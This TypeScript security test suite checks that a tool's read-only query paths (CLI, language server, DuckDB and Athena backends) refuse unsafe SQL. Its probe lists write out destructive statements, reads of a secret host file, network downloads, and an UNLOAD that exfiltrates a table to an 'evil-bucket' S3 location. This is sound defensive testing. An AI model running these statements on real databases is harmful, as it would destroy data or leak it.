/**
 * Injection corpus, part 2: the queries an engineer types (preview --sql, the query command), through
 * every entry point: the function the CLI and the server share, the CLI itself, the language server, on
 * the local engine and on Athena. Every probe that would write, read a host file, reach the network,
 * load an extension or change a setting is refused, saying why; the DuckDB file, the files around it,
 * a local HTTP server and the fake Athena's statement log show that nothing ran.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { OperationError } from '../../server/src/backends/errors';
import { runOperation, runQuery } from '../../server/src/commands/run-operation';
import { FakeAws, scriptAthena } from '../helpers/fake-aws';
import { LspClient, uriOf } from '../helpers/lsp-client';
import { duckdbState, Tally } from '../helpers/security-tally';
import { tempWorkspace } from '../helpers/temp-workspace';

const tally = new Tally('read-only queries');
const cli = join(__dirname, '..', '..', 'server', 'out', 'cli.js');

const workspace = `defaults:
  database: card_dw
environments:
  local:
    engine: duckdb
    database_file: .tablespec/ro.duckdb
    staging: data/{table}.csv
  dev:
    engine: athena
    region: ap-northeast-2
    workgroup: primary
    output_location: s3://card-athena-results-dev/
    warehouse: s3://card-lake-dev/{database}/{table}/
    staging: s3://card-raw-dev/{database}/{table}/
`;
const spec = `table: acct
kind: source
source: { object: CARD.ACCT, row_count: 3 }
load: { mode: overwrite }
columns:
  - { name: acct_id, oracle: NUMBER(12), nullable: false }
  - { name: grade_cd, oracle: CHAR(1) }
`;
const secret = 'TOP-SECRET-7f3a9c';
const ws = tempWorkspace({
  'tablespec.yaml': workspace,
  'specs/acct.table.yaml': spec,
  'data/acct.csv': 'ACCT_ID,GRADE_CD\n1,A\n2,B\n3,A\n',
  'secret.txt': `${secret}\n`,
  'other/placeholder.txt': '',
});
const dbFile = ws.path('.tablespec/ro.duckdb');
/** The local HTTP server's address, known once it listens (the probes' names are written before). */
const withUrl = (sql: string) => sql.replace('HTTP_URL', httpUrl);
const out = (name: string) => ws.path(`other/${name}`).replace(/'/g, "''");

// A local HTTP server: a query that starts a download shows up here.
let http: Server;
let httpHits = 0;
let httpUrl = '';
const fake = new FakeAws();
let athena: { sql: string[] };
const saved = { ...process.env };

before(async () => {
  http = createServer((_req, res) => {
    httpHits++;
    res.end('a,b\n1,2\n');
  });
  await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
  httpUrl = `http://127.0.0.1:${(http.address() as AddressInfo).port}`;
  process.env.TABLESPEC_AWS_ENDPOINT = await fake.start();
  process.env.AWS_ACCESS_KEY_ID = 'AKIDTEST';
  process.env.AWS_SECRET_ACCESS_KEY = 'secret';
  athena = scriptAthena(fake, () => ({ columns: [{ name: 'n', type: 'integer' }], rows: [['1']] }));
  await runOperation({ operation: 'deploy', file: ws.path('specs/acct.table.yaml'), environment: 'local' });
  await runOperation({ operation: 'load', file: ws.path('specs/acct.table.yaml'), environment: 'local', confirmation: { yes: true }, salt: 'security-suite-salt-01' });
});

after(async () => {
  process.env = saved;
  await new Promise<void>((r) => http.close(() => r()));
  await fake.stop();
  ws.remove();
  tally.report(60);
});

/** Queries that must not run on the local engine: writes hidden behind WITH and EXPLAIN ANALYZE, host files, downloads, extensions, settings. */
const localProbes = (): string[] => [
  'WITH x AS (SELECT 1) DELETE FROM card_dw.acct',
  'WITH x AS (SELECT 1) INSERT INTO card_dw.acct SELECT * FROM card_dw.acct',
  "WITH x AS (SELECT 1) UPDATE card_dw.acct SET grade_cd = 'Z'",
  'EXPLAIN ANALYZE DROP TABLE card_dw.acct',
  'EXPLAIN ANALYZE CREATE TABLE card_dw.evil AS SELECT 1 AS a',
  `EXPLAIN ANALYZE COPY card_dw.acct TO '${out('leak1.csv')}'`,
  `COPY card_dw.acct TO '${out('leak2.csv')}'`,
  `COPY (SELECT * FROM card_dw.acct) TO '${out('leak3.parquet')}' (FORMAT parquet)`,
  `SELECT * FROM read_csv('${ws.path('secret.txt')}', header = false)`,
  `SELECT * FROM read_text('${ws.path('secret.txt')}')`,
  `SELECT * FROM read_blob('${ws.path('secret.txt')}')`,
  `SELECT * FROM glob('${ws.root}/*')`,
  `SELECT * FROM '${ws.path('secret.txt')}'`,
  "SELECT * FROM read_csv('HTTP_URL/x.csv')",
  "SELECT * FROM read_parquet('HTTP_URL/x.parquet')",
  'INSTALL httpfs',
  'LOAD httpfs',
  'FORCE INSTALL json',
  'SET enable_external_access = true',
  "SET access_mode = 'READ_WRITE'",
  'RESET lock_configuration',
  `ATTACH '${out('attached.duckdb')}' AS o`,
  `EXPORT DATABASE '${out('export')}'`,
  "CREATE SECRET s (TYPE s3, KEY_ID 'AKIA', SECRET 'x')",
  'SELECT 1; DROP TABLE card_dw.acct',
  'DROP TABLE card_dw.acct',
  'DELETE FROM card_dw.acct',
  "UPDATE card_dw.acct SET grade_cd = 'Z'",
  "INSERT INTO card_dw.acct VALUES (9, 'Z')",
  'CREATE TABLE card_dw.evil (a INTEGER)',
  'CREATE OR REPLACE VIEW card_dw.v AS SELECT 1',
  'ALTER TABLE card_dw.acct ADD COLUMN x INTEGER',
  'TRUNCATE card_dw.acct',
  'CREATE MACRO m() AS 1',
  'SET VARIABLE v = 1',
  'BEGIN TRANSACTION',
  'VACUUM card_dw.acct',
  // What the engine's settings do not cover: logging to the process's stdout (the language server's
  // protocol stream), profiling output, and text run as SQL by a table function.
  "SELECT * FROM enable_logging(storage := 'stdout')",
  "CALL enable_logging(storage := 'stdout')",
  "EXPLAIN ANALYZE SELECT * FROM enable_logging(storage := 'stdout')",
  'PRAGMA enable_profiling',
  "SELECT * FROM query('SELECT 1')",
  "SELECT * FROM json_execute_serialized_sql('{}')",
  `EXPLAIN ANALYZE SELECT * FROM read_text('${ws.path('secret.txt')}')`,
];

/** Statements that must not run on Athena. */
const athenaProbes = [
  'WITH x AS (SELECT 1) DELETE FROM card_dw.acct',
  'WITH x AS (SELECT 1) INSERT INTO card_dw.acct SELECT * FROM card_dw.acct',
  "WITH x AS (SELECT 1) UPDATE card_dw.acct SET grade_cd = 'Z'",
  'EXPLAIN ANALYZE DROP TABLE card_dw.acct',
  'EXPLAIN ANALYZE CREATE TABLE card_dw.evil AS SELECT 1 AS a',
  'EXPLAIN DROP TABLE card_dw.acct',
  "UNLOAD (SELECT * FROM card_dw.acct) TO 's3://evil-bucket/stolen/' WITH (format = 'CSV')",
  'CREATE TABLE card_dw.evil AS SELECT * FROM card_dw.acct',
  'DROP TABLE card_dw.acct',
  'DELETE FROM card_dw.acct',
  "UPDATE card_dw.acct SET grade_cd = 'Z'",
  "INSERT INTO card_dw.acct VALUES (9, 'Z')",
  'MERGE INTO card_dw.acct t USING card_dw.acct s ON t.acct_id = s.acct_id WHEN MATCHED THEN DELETE',
  'ALTER TABLE card_dw.acct ADD COLUMNS (x int)',
  'MSCK REPAIR TABLE card_dw.acct',
  'VACUUM card_dw.acct',
  'OPTIMIZE card_dw.acct REWRITE DATA USING BIN_PACK',
  'SELECT 1; DROP TABLE card_dw.acct',
  "USING EXTERNAL FUNCTION f(x int) RETURNS int LAMBDA 'arn:aws:lambda:ap-northeast-2:1:function:f' SELECT f(1)",
  'WITH FUNCTION f() RETURNS int RETURN 1 SELECT f()',
  "SELECT * FROM TABLE(system.query(query => 'DROP TABLE x'))",
  "CALL system.sync_partition_metadata('card_dw', 'acct', 'FULL')",
  'PREPARE p FROM DELETE FROM card_dw.acct',
  'GRANT SELECT ON card_dw.acct TO ROLE public',
  'CREATE VIEW card_dw.v AS SELECT 1',
];

async function localRefused(run: () => Promise<unknown>): Promise<{ ran: number; error: unknown }> {
  const before = await duckdbState(dbFile);
  const hits = httpHits;
  const files = readdirSync(ws.path('other')).length;
  let error: unknown;
  try {
    await run();
  } catch (e) {
    error = e;
  }
  const ran = (before === (await duckdbState(dbFile)) ? 0 : 1) + (httpHits - hits) + (readdirSync(ws.path('other')).length - files);
  return { ran, error };
}

describe('local engine: the read-only connection', () => {
  it('reads: SELECT, WITH … SELECT, VALUES, DESCRIBE, SHOW, SUMMARIZE and EXPLAIN run', async () => {
    assert.deepEqual((await runQuery(ws.root, 'local', 'SELECT count(*) AS n FROM card_dw.acct', 10)).rows, [{ n: 3 }]);
    assert.deepEqual((await runQuery(ws.root, 'local', "WITH x AS (SELECT grade_cd FROM card_dw.acct) SELECT count(*) AS n FROM x WHERE grade_cd = 'A'", 10)).rows, [{ n: 2 }]);
    assert.deepEqual((await runQuery(ws.root, 'local', 'VALUES (1)', 10)).rows.length, 1);
    assert.deepEqual(
      (await runQuery(ws.root, 'local', 'DESCRIBE card_dw.acct', 10)).rows.map((r) => r.column_name),
      ['acct_id', 'grade_cd'],
    );
    assert.ok((await runQuery(ws.root, 'local', 'SHOW ALL TABLES', 10)).rows.length >= 1);
    assert.equal((await runQuery(ws.root, 'local', 'SUMMARIZE card_dw.acct', 10)).rows.length, 2);
    assert.equal((await runQuery(ws.root, 'local', 'EXPLAIN SELECT * FROM card_dw.acct', 10)).rows.length, 1);
    assert.equal((await runQuery(ws.root, 'local', 'EXPLAIN ANALYZE SELECT count(*) FROM card_dw.acct', 10)).rows.length, 1);
    assert.deepEqual((await runQuery(ws.root, 'local', "SELECT table_name FROM duckdb_tables() WHERE schema_name = 'card_dw'", 10)).rows, [{ table_name: 'acct' }]);
    assert.deepEqual((await runQuery(ws.root, 'local', 'SELECT sum(range) AS s FROM range(4)', 10)).rows, [{ s: 6 }]);
  });
  for (const sql of localProbes()) {
    // With external access off, DuckDB no longer reads a file named in FROM: to it, that is a table that does not exist.
    const kind = sql.startsWith("SELECT * FROM '") ? 'not-found' : 'unsafe-sql';
    it(`refuses ${sql.slice(0, 70)}`, async () => {
      const { ran, error } = await localRefused(() => runQuery(ws.root, 'local', withUrl(sql), 10));
      assert.ok(error instanceof OperationError && error.kind === kind, `expected ${kind}, got ${String(error)} (ran ${ran})`);
      assert.ok(!error.message.includes(secret));
      assert.equal(ran, 0);
      tally.record('query (local)', 'refused', ran);
    });
  }
  it('says why: a write, a file, one statement at a time', async () => {
    await assert.rejects(runQuery(ws.root, 'local', 'WITH x AS (SELECT 1) DELETE FROM card_dw.acct', 10), (e: OperationError) => e.kind === 'unsafe-sql' && /DELETE/.test(e.message));
    await assert.rejects(runQuery(ws.root, 'local', `SELECT * FROM read_text('${ws.path('secret.txt')}')`, 10), (e: OperationError) => e.kind === 'unsafe-sql' && /calls `read_text`/.test(e.message));
    await assert.rejects(
      runQuery(ws.root, 'local', `SELECT 1 FROM card_dw.acct WHERE grade_cd IN (SELECT content FROM read_text('${ws.path('secret.txt')}'))`, 10),
      (e: OperationError) => e.kind === 'unsafe-sql' && /calls `read_text`/.test(e.message),
    );
    await assert.rejects(runQuery(ws.root, 'local', `COPY card_dw.acct TO '${out('leak9.csv')}'`, 10), (e: OperationError) => e.kind === 'unsafe-sql' && /outside the database/.test(e.message));
    await assert.rejects(runQuery(ws.root, 'local', 'EXPLAIN ANALYZE DELETE FROM card_dw.acct', 10), (e: OperationError) => e.kind === 'unsafe-sql' && /this one is DELETE/.test(e.message));
    await assert.rejects(runQuery(ws.root, 'local', 'SELECT 1; SELECT 2', 10), (e: OperationError) => e.kind === 'unsafe-sql' && /one statement at a time/.test(e.message));
    assert.ok(!existsSync(ws.path('other/attached.duckdb')));
  });
});

describe('Athena: one reading statement by the Trino grammar', () => {
  it('runs a query', async () => {
    const sent = athena.sql.length;
    assert.deepEqual((await runQuery(ws.root, 'dev', 'WITH x AS (SELECT 1 AS n) SELECT n FROM x', 10)).rows, [{ n: 1 }]);
    assert.equal(athena.sql.length, sent + 1);
  });
  for (const sql of athenaProbes) {
    it(`refuses ${sql.slice(0, 70)}`, async () => {
      const sent = fake.count('AmazonAthena.StartQueryExecution');
      let error: unknown;
      try {
        await runQuery(ws.root, 'dev', sql, 10);
      } catch (e) {
        error = e;
      }
      const ran = fake.count('AmazonAthena.StartQueryExecution') - sent;
      assert.ok(error instanceof OperationError && error.kind === 'unsafe-sql', `expected unsafe-sql, got ${String(error)} (ran ${ran})`);
      assert.equal(ran, 0);
      tally.record('query (Athena)', 'refused', ran);
    });
  }
});

describe('the other entry points: CLI preview --sql and the language server', () => {
  const probes = [
    'WITH x AS (SELECT 1) DELETE FROM card_dw.acct',
    'EXPLAIN ANALYZE DROP TABLE card_dw.acct',
    "SELECT * FROM enable_logging(storage := 'stdout')",
    `SELECT * FROM read_text('${ws.path('secret.txt')}')`,
    "SELECT * FROM read_csv('HTTP_URL/x.csv')",
    'SELECT 1; DROP TABLE card_dw.acct',
  ];
  for (const sql of probes) {
    it(`CLI refuses ${sql.slice(0, 60)}`, async () => {
      const { ran, error } = await localRefused(async () => {
        const r = spawnSync(process.execPath, [cli, 'preview', '--sql', withUrl(sql), '--env', 'local', '--format', 'json'], {
          cwd: ws.root,
          encoding: 'utf8',
          env: { ...process.env, TABLESPEC_LOCALE: '' },
        });
        if (r.status !== 0) throw new Error(r.stderr);
      });
      assert.match(String(error), /^Error: tablespec: (Queries only read|The query would write|The query calls|The query reaches outside the database|A query runs one statement at a time)/);
      assert.ok(!String(error).includes(secret));
      assert.equal(ran, 0);
      tally.record('query (CLI)', 'refused', ran);
    });
  }
  let client: LspClient;
  before(async () => {
    client = new LspClient();
    await client.initialize(ws.root);
  });
  after(async () => {
    await client.stop();
  });
  for (const sql of probes) {
    it(`language server refuses ${sql.slice(0, 60)}`, async () => {
      const { ran, error } = await localRefused(() =>
        client.request('workspace/executeCommand', { command: 'tablespec.server.query', arguments: [{ uri: uriOf(ws.path('specs/acct.table.yaml')), sql: withUrl(sql) }] }),
      );
      assert.equal((error as { data?: { kind?: string } }).data?.kind, 'unsafe-sql');
      assert.equal(ran, 0);
      tally.record('query (language server)', 'refused', ran);
    });
  }
});
